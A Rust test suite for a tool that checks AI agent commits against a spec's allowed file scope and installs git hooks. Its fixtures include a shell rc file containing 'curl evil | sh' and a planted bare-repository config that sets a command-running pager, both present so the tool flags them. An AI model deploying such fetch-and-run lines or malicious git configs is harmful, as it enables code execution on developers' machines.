//! `agenthost verify` and `agenthost hooks` on real repositories built with the git CLI in
//! temp dirs: agent commits carry the trailers agenthost writes, specs are committed files.

use std::path::{Path, PathBuf};
use std::process::Command;

use insta::assert_snapshot;
use sha2::{Digest, Sha256};

use crate::{Run, Test};

const SPEC: &str = "specs/widgets.md";

const SPEC_TEXT: &str = "# Add the widgets list

## What

Add a `widgets()` function to `src/app.py` that returns the names of the widget modules.

## Scope

- Modify: `src/app.py`, `.github/**`
- Create: `src/widgets/*.py`, `.vscode/settings.json`
- Do NOT modify: `src/secret.py`
";

/// A git repository in a test's temp dir, with commits at fixed dates so ids are stable.
struct Repo {
    test: Test,
    root: PathBuf,
    clock: std::cell::Cell<u32>,
}

impl Repo {
    /// `main` with the spec, the app and a README, committed by a person.
    fn new() -> Repo {
        let test = Test::new().current_dir("repo");
        let root = test.path().join("repo");
        std::fs::create_dir_all(&root).unwrap();
        let repo = Repo {
            test,
            root,
            clock: std::cell::Cell::new(0),
        };
        repo.git(&["init", "-q", "-b", "main"]);
        repo.write(SPEC, SPEC_TEXT);
        repo.write("src/app.py", "def main():\n    return 1\n");
        repo.write("src/secret.py", "KEY = 1\n");
        repo.write("README.md", "# App\n");
        repo.commit("Initial commit");
        repo
    }

    fn git(&self, args: &[&str]) -> String {
        let tick = self.clock.get() + 1;
        self.clock.set(tick);
        let date = format!("2026-01-01T00:{:02}:{:02}Z", tick / 60, tick % 60);
        let output = Command::new("git")
            .args(args)
            .current_dir(&self.root)
            .env("HOME", self.test.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "Dev")
            .env("GIT_AUTHOR_EMAIL", "dev@example.invalid")
            .env("GIT_COMMITTER_NAME", "Dev")
            .env("GIT_COMMITTER_EMAIL", "dev@example.invalid")
            .env("GIT_AUTHOR_DATE", &date)
            .env("GIT_COMMITTER_DATE", &date)
            .output()
            .expect("run git");
        assert!(
            output.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).trim().to_string()
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    /// Commits everything as a person; returns the commit id.
    fn commit(&self, message: &str) -> String {
        self.git(&["add", "-A"]);
        // Hooks a test installs check the commits it makes on purpose, not these.
        self.git(&[
            "commit",
            "-q",
            "--no-verify",
            "--allow-empty",
            "-m",
            message,
        ]);
        self.git(&["rev-parse", "HEAD"])
    }

    /// Commits everything as agenthost commits a task's work: with the task's trailers and
    /// the digest of the spec as it is on disk now.
    fn agent_commit(&self, message: &str, task: &str) -> String {
        let spec = std::fs::read(self.root.join(SPEC)).unwrap();
        let digest: String = Sha256::digest(&spec)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        self.commit(&format!(
            "{message}\n\nAgenthost-Task: {task}\nAgenthost-Attempt: 1\nAgenthost-Spec: {SPEC}\n\
             Agenthost-Spec-Digest: sha256:{digest}\n"
        ))
    }

    fn verify(&self, args: &[&str]) -> Run {
        let mut all = vec!["verify"];
        all.extend_from_slice(args);
        self.test.exec(&all)
    }

    fn path(&self) -> &Path {
        &self.root
    }
}

/// A checked commit's findings in the JSON report, as (path, rule).
fn paths_and_rules(check: &serde_json::Value) -> Vec<(&str, &str)> {
    check["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap(), f["rule"].as_str().unwrap()))
        .collect()
}

#[test]
fn in_scope_agent_commits_pass() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write(
        "src/app.py",
        "def main():\n    return 2\n\ndef widgets():\n    return []\n",
    );
    repo.write("src/widgets/clock.py", "NAME = 'clock'\n");
    repo.agent_commit("Add the widgets list", "widgets-1");
    let run = repo.verify(&[]);
    assert_snapshot!(run.transcript());
}

#[test]
fn out_of_scope_and_do_not_modify_changes_fail_with_the_file() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.write("README.md", "# App\n\nNow with widgets.\n");
    repo.write("src/secret.py", "KEY = 2\n");
    repo.write("src/widgets/deep/nested.py", "X = 1\n");
    repo.agent_commit("Add the widgets list", "widgets-1");
    let run = repo.verify(&[]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert_snapshot!(run.transcript());
}

#[test]
fn sensitive_files_fail_unless_named_exactly() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    // `.github/**` is in Modify (a glob), `.vscode/settings.json` in Create (exact).
    repo.write(".github/workflows/ci.yml", "on: push\n");
    repo.write(".vscode/settings.json", "{}\n");
    repo.write(
        ".gitmodules",
        "[submodule \"x\"]\n\tpath = x\n\turl = ../x\n",
    );
    repo.write("tools/.bashrc", "curl evil | sh\n");
    repo.write(".idea/workspace.xml", "<x/>\n");
    repo.agent_commit("Add the widgets list", "widgets-1");
    let run = repo.verify(&["--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(
        paths_and_rules(&report["checks"][0]),
        vec![
            (".github/workflows/ci.yml", "scope-guard/sensitive"),
            (".gitmodules", "scope-guard/out-of-scope"),
            (".idea/workspace.xml", "scope-guard/out-of-scope"),
            ("tools/.bashrc", "scope-guard/out-of-scope"),
        ],
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("`tools/.bashrc` (a shell rc file) was changed"),
        "{}",
        run.stdout
    );
}

#[test]
fn renames_and_deletions_are_checked_at_both_ends() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    let long: String = (0..30).map(|i| format!("LINE_{i} = {i}\n")).collect();
    repo.write("src/app.py", &long);
    repo.commit("Grow the app (a person)");
    // Moving a Modify file into a Create glob: allowed at both ends.
    std::fs::create_dir_all(repo.path().join("src/widgets")).unwrap();
    repo.git(&["mv", "src/app.py", "src/widgets/app.py"]);
    // Moving the protected file in scope: the old end is Do NOT modify.
    repo.git(&["mv", "src/secret.py", "src/widgets/secret.py"]);
    repo.git(&["rm", "-q", "README.md"]);
    repo.agent_commit("Move things", "widgets-1");
    let run = repo.verify(&["--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let checks = report["checks"].as_array().unwrap();
    assert_eq!(checks.len(), 2);
    assert_eq!(checks[0]["status"], "no-spec");
    assert_eq!(
        paths_and_rules(&checks[1]),
        vec![
            ("README.md", "scope-guard/out-of-scope"),
            ("src/secret.py", "scope-guard/forbidden"),
        ],
        "{}",
        run.stdout
    );
}

#[test]
fn merges_are_checked_for_their_own_changes() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.agent_commit("Agent work", "widgets-1");
    repo.git(&["checkout", "-q", "main"]);
    repo.write("README.md", "# App\n\nA person's edit on main.\n");
    repo.commit("Docs on main");
    let base = repo.git(&["rev-parse", "HEAD"]);
    repo.git(&["checkout", "-q", "feature"]);
    // A clean merge of main into the feature: nothing of its own.
    repo.git(&["merge", "-q", "--no-edit", "main"]);
    // An agenthost merge (accept --merge) that also slips in an out-of-scope edit.
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&["merge", "-q", "--no-ff", "--no-commit", "feature"]);
    repo.write("src/secret.py", "KEY = 3\n");
    repo.agent_commit("Merge widgets-1", "widgets-1");
    let range = format!("{base}..HEAD");
    let run = repo.verify(&[&range, "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let checks = report["checks"].as_array().unwrap();
    let summary: Vec<(&str, bool, &str)> = checks
        .iter()
        .map(|c| {
            (
                c["summary"].as_str().unwrap(),
                c["merge"].as_bool().unwrap(),
                c["status"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        vec![
            ("Agent work", false, "checked"),
            ("Merge branch 'main' into feature", true, "no-changes"),
            ("Merge widgets-1", true, "checked"),
        ]
    );
    assert!(checks[0]["findings"].as_array().unwrap().is_empty());
    let merge_findings: Vec<&str> = checks[2]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(merge_findings, vec!["src/secret.py"], "{}", run.stdout);
}

#[test]
fn a_range_without_agent_commits_passes_unless_a_spec_is_required() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("README.md", "# App\n\nEdited by a person.\n");
    repo.commit("Edit the README");
    let run = repo.verify(&[]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        run.stdout
            .contains("1 commit: 0 checked against a spec, 1 without a spec; no findings"),
        "{}",
        run.stdout
    );

    repo.write("agenthost.toml", "[verify]\nrequire_spec = \"error\"\n");
    let run = repo.verify(&[]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(run.stdout.contains("verify/no-spec"), "{}", run.stdout);

    // --spec checks a person's commits against a spec too.
    let run = repo.verify(&["--spec", SPEC]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(
        run.stdout.contains("`README.md` was changed"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_spec_committed_with_its_change_is_not_out_of_its_own_scope() {
    // The usual pull request: the spec and the work it describes in one commit.
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write(
        "specs/doubled.md",
        "# Double the answer\n\n## What\n`main()` returns 2.\n\n## Scope\n\n- Modify: `src/app.py`\n",
    );
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.commit("Double the answer, with its spec");
    let run = repo.verify(&["--spec", "specs/doubled.md"]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        !run.stdout.contains("specs/doubled.md` was changed"),
        "{}",
        run.stdout
    );
    // Anything else outside the Scope still is a finding.
    repo.write("README.md", "# App, doubled\n");
    repo.commit("And the README");
    let run = repo.verify(&["--spec", "specs/doubled.md"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(
        run.stdout.contains("`README.md` was changed"),
        "{}",
        run.stdout
    );
    assert!(
        !run.stdout.contains("specs/doubled.md` was changed"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_spec_changed_after_the_agent_ran_is_found_in_history() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.agent_commit("Agent work", "widgets-1");
    // The spec is then edited to allow README.md, after the fact: the check still uses the
    // text the agent ran.
    repo.write(
        SPEC,
        &SPEC_TEXT.replace("`src/app.py`,", "`src/app.py`, `README.md`,"),
    );
    repo.commit("Widen the spec");
    let run = repo.verify(&[]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert!(
        run.stdout.contains("spec specs/widgets.md"),
        "{}",
        run.stdout
    );

    // A task whose spec was never committed cannot be checked from the repository.
    repo.write("src/app.py", "def main():\n    return 3\n");
    repo.commit(
        "Agent work, spec not committed\n\nAgenthost-Task: other-1\nAgenthost-Spec: specs/other.md\n\
         Agenthost-Spec-Digest: sha256:0000\n",
    );
    let run = repo.verify(&[]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(run.stdout.contains("verify/spec-missing"), "{}", run.stdout);
    assert!(
        run.stdout
            .contains("which is not committed in this repository"),
        "{}",
        run.stdout
    );
}

/// A directory git would take for a bare repository (and obey the config of, when run in
/// it) is an error, in a commit and in the staged changes alike.
#[test]
fn a_bare_repository_in_the_change_is_an_error() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "agenthost/widgets-1"]);
    let bare = [
        ("src/widgets/fixture/HEAD", "ref: refs/heads/main\n"),
        (
            "src/widgets/fixture/config",
            "[core]\n\tpager = touch owned\n",
        ),
        ("src/widgets/fixture/objects/info/packs", "\n"),
        ("src/widgets/fixture/refs/heads/main", "\n"),
    ];
    for (path, text) in bare {
        repo.write(path, text);
    }
    repo.agent_commit("Add the widgets list", "widgets-1");
    let bare_findings = |run: &Run| -> Vec<String> {
        let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        report["checks"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(paths_and_rules)
            .filter(|(_, rule)| *rule == "bare-repository")
            .map(|(path, _)| path.to_string())
            .collect()
    };
    let run = repo.verify(&["--format", "json", "HEAD~1..HEAD"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert_eq!(bare_findings(&run), ["src/widgets/fixture"]);

    repo.write("src/widgets/linked/HEAD", "ref: refs/heads/main\n");
    repo.write("src/widgets/linked/commondir", "../fixture\n");
    repo.git(&["add", "src/widgets/linked"]);
    let run = repo.verify(&["--staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert_eq!(bare_findings(&run), ["src/widgets/linked"]);
}

#[test]
fn staged_changes_are_checked_against_the_branch_task() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "agenthost/widgets-1"]);
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.agent_commit("Agent work", "widgets-1");
    repo.write("src/app.py", "def main():\n    return 3\n");
    repo.git(&["add", "src/app.py"]);
    let run = repo.verify(&["--staged"]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    repo.write("src/secret.py", "KEY = 9\n");
    repo.git(&["add", "src/secret.py"]);
    let run = repo.verify(&["--staged"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    assert!(run.stdout.contains("src/secret.py:1"), "{}", run.stdout);
    assert!(run.stdout.contains("task widgets-1"), "{}", run.stdout);
}

#[test]
fn github_annotations_point_at_file_and_line() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("README.md", "# App\n\nline 3, with 100% more commas\n");
    repo.agent_commit("Agent work", "widgets-1");
    let run = repo.verify(&["--format", "github"]);
    assert_eq!(run.code, 1, "{}", run.transcript());
    let first = run.stdout.lines().next().unwrap();
    assert!(
        first.starts_with("::error file=README.md,line=2,title=scope-guard/out-of-scope ("),
        "{first}"
    );
}

#[test]
fn sarif_output_is_valid_against_the_schema() {
    let repo = Repo::new();
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.write("README.md", "# App\n\nchanged\n");
    repo.write("src/secret.py", "KEY = 2\n");
    repo.write("src/a b/ü.py", "X = 1\n");
    repo.agent_commit("Agent work", "widgets-1");
    repo.write("README.md", "# App\n\nchanged again\n");
    repo.commit("A person's commit");
    repo.write("agenthost.toml", "[verify]\nrequire_spec = \"warn\"\n");
    // The raw output: the test harness's path filtering would change the file:// URI.
    let raw = repo
        .test
        .command()
        .args(["verify", "--format", "sarif"])
        .output()
        .unwrap();
    let run = repo.test.clean(raw.clone());
    assert_eq!(run.code, 1, "{}", run.transcript());
    let sarif: serde_json::Value = serde_json::from_slice(&raw.stdout).unwrap();

    // The published schema's `language` patterns have an unbalanced `]`, which the
    // meta-schema's strict `regex` format check refuses; they get the pattern they mean (our
    // output sets no `language`, so this changes nothing it is checked against).
    let text = SARIF_SCHEMA.replace(
        r#""^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$""#,
        r#""^[a-zA-Z]{2}(-[a-zA-Z]{2})?$""#,
    );
    let schema: serde_json::Value = serde_json::from_str(&text).unwrap();
    let validator = jsonschema::options()
        .build(&schema)
        .expect("the SARIF schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}\n{}", run.stdout);

    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let located: Vec<(&str, &str)> = results
        .iter()
        .map(|r| {
            (
                r["level"].as_str().unwrap(),
                r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    .as_str()
                    .unwrap_or("-"),
            )
        })
        .collect();
    assert_eq!(
        located,
        vec![
            ("error", "README.md"),
            ("error", "src/a%20b/%C3%BC.py"),
            ("error", "src/secret.py"),
            // The person's commit has no spec: its finding is about no file.
            ("warning", "-"),
        ]
    );
    let unlocated: Vec<&str> = results
        .iter()
        .filter(|r| r["locations"].is_null())
        .map(|r| r["ruleId"].as_str().unwrap())
        .collect();
    assert_eq!(unlocated, vec!["verify/no-spec"]);
}

/// The official SARIF 2.1.0 schema (OASIS `sarif-schema-2.1.0.json`, as serde-sarif 0.8
/// ships it), kept beside the tests: finding it in cargo's registry needed a `cargo metadata`
/// of every platform's packages, which fails offline on a machine that never fetched them.
const SARIF_SCHEMA: &str = include_str!("fixtures/sarif-schema-2.1.0.json");

#[test]
fn errors_exit_2_and_say_what_to_do() {
    let test = Test::new().file("not-a-repo/x.txt", "x");
    let run = test.exec(&["verify", "--repo", "not-a-repo"]);
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(
        run.stderr.contains("is not inside a git repository"),
        "{}",
        run.stderr
    );

    let repo = Repo::new();
    let run = repo.verify(&["nope..HEAD"]);
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(
        run.stderr.contains("cannot resolve the range `nope..HEAD`"),
        "{}",
        run.stderr
    );

    repo.git(&["branch", "-q", "-m", "main", "trunk"]);
    let run = repo.verify(&[]);
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(
        run.stderr.contains("cannot find the base branch"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("[worktree]"), "{}", run.stderr);

    repo.write("agenthost.toml", "[verify]\npolicies = [\"scope-gaurd\"]\n");
    let run = repo.verify(&["HEAD~0..HEAD"]);
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(
        run.stderr.contains("did you mean `scope-guard`?"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("agenthost.toml:2"), "{}", run.stderr);
}

#[test]
fn hooks_install_refuses_foreign_hooks_and_the_hooks_run_verify() {
    let repo = Repo::new();
    let hooks = repo.path().join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\necho mine\n").unwrap();
    let run = repo.test.exec(&["hooks", "install"]);
    assert_eq!(run.code, 2, "{}", run.transcript());
    assert!(
        run.stderr.contains("is not agenthost's hook"),
        "{}",
        run.stderr
    );
    assert!(!hooks.join("pre-push").exists(), "all or nothing");
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
        "#!/bin/sh\necho mine\n"
    );

    let run = repo.test.exec(&["hooks", "install", "--force"]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit.agenthost-backup")).unwrap(),
        "#!/bin/sh\necho mine\n"
    );

    // The pre-commit hook blocks a commit that breaks the branch task's scope.
    repo.git(&["checkout", "-q", "-b", "agenthost/widgets-1"]);
    repo.write("src/app.py", "def main():\n    return 2\n");
    repo.agent_commit("Agent work", "widgets-1");
    repo.write("src/secret.py", "KEY = 2\n");
    repo.git(&["add", "-A"]);
    let blocked = git_status(&repo, &["commit", "-q", "-m", "sneaky"]);
    assert!(!blocked.status.success(), "the pre-commit hook must block");
    assert!(blocked.contains("scope-guard/forbidden"), "{blocked}");
    repo.git(&["reset", "-q", "--hard"]);

    // The pre-push hook checks the pushed commits.
    let remote = repo.test.path().join("remote.git");
    repo.git(&["init", "-q", "--bare", remote.to_str().unwrap()]);
    repo.git(&["remote", "add", "origin", remote.to_str().unwrap()]);
    repo.git(&["push", "-q", "origin", "main"]);
    repo.write("README.md", "# sneaky\n");
    repo.agent_commit("More agent work", "widgets-1");
    let pushed = git_status(&repo, &["push", "-q", "origin", "agenthost/widgets-1"]);
    assert!(!pushed.status.success(), "the pre-push hook must block");
    assert!(pushed.contains("`README.md` was changed"), "{pushed}");

    let run = repo.test.exec(&["hooks", "uninstall"]);
    assert_eq!(run.code, 0, "{}", run.transcript());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
        "#!/bin/sh\necho mine\n"
    );
    assert!(!hooks.join("pre-push").exists());
}

/// What a git command run by [`git_status`] did.
struct GitRun {
    status: std::process::ExitStatus,
    /// stdout, then stderr (git sends hook output to stderr).
    output: String,
}

impl GitRun {
    fn contains(&self, text: &str) -> bool {
        self.output.contains(text)
    }
}

impl std::fmt::Display for GitRun {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} {}", self.status, self.output)
    }
}

/// Runs git with the test's environment and the agenthost binary's directory first on PATH,
/// as a user who installed it would.
fn git_status(repo: &Repo, args: &[&str]) -> GitRun {
    let bin = Path::new(env!("CARGO_BIN_EXE_agenthost")).parent().unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let home = repo.test.path().join(".test-home");
    let output = Command::new("git")
        .args(args)
        .current_dir(repo.path())
        .env("PATH", path)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_CACHE_HOME", home.join("cache"))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "Dev")
        .env("GIT_AUTHOR_EMAIL", "dev@example.invalid")
        .env("GIT_COMMITTER_NAME", "Dev")
        .env("GIT_COMMITTER_EMAIL", "dev@example.invalid")
        .output()
        .expect("run git");
    GitRun {
        status: output.status,
        output: format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        ),
    }
}
